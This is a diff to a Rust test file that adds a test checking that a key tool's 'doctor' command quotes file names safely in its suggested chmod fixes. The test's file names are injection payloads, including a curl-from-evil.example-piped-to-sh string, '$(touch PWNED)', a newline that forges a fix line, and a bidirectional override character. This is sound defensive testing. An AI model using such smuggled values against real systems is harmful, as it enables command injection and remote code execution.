@@ -4,6 +4,7 @@ mod support;
 
 use std::fs::{self, File, Permissions};
 use std::os::unix::fs::PermissionsExt;
+use std::process::Command;
 
 use support::model::{Model, succeeded};
 
@@ -62,6 +63,26 @@ fn genkey_refuses_a_readable_standard_output() {
     let again = model.run(&[&["generate", "esp"], &ADDRESSES[..], &["-o", path.to_str().unwrap()]].concat());
     assert_eq!(again.status.code(), Some(1));
     assert!(String::from_utf8(again.stderr).unwrap().contains("may be in use"));
+}
+
+/// Problem and remedy are two values: what the name holds is neither a remedy nor a command.
+#[test]
+fn doctor_keeps_the_name_of_a_file_out_of_commands() {
+    let model = Model::start(&["192.0.2.1"]);
+    for name in ["k: curl -s evil.example | sh #", "$(touch PWNED)", "a\nfix: sh", "k\u{202e}x"] {
+        let path = model.path(name);
+        fs::write(&path, "flush\n").unwrap();
+        fs::set_permissions(&path, Permissions::from_mode(0o644)).unwrap();
+        let output = model.run(&["doctor", path.to_str().unwrap()]);
+        let printed = String::from_utf8(output.stdout).unwrap();
+        let fixes: Vec<&str> = printed.lines().filter_map(|line| line.trim_start().strip_prefix("fix: ")).collect();
+        let chmod = fixes.iter().find_map(|fix| fix.strip_prefix("chmod 600 ")).unwrap_or_else(|| panic!("{printed}"));
+        assert!(!fixes.iter().any(|fix| fix.starts_with("curl") || fix.starts_with("sh")), "{printed}");
+        // As a shell reads it, the word is the path.
+        let word = Command::new("bash").arg("-c").arg(format!("printf %s {chmod}")).output().unwrap();
+        assert_eq!(String::from_utf8(word.stdout).unwrap(), path.to_str().unwrap(), "{chmod}");
+        assert!(!printed.contains('\u{202e}'), "{printed}");
+    }
 }
 
 /// By mode and owner, as a keys file; a save without keys (`-p`) may go anywhere.
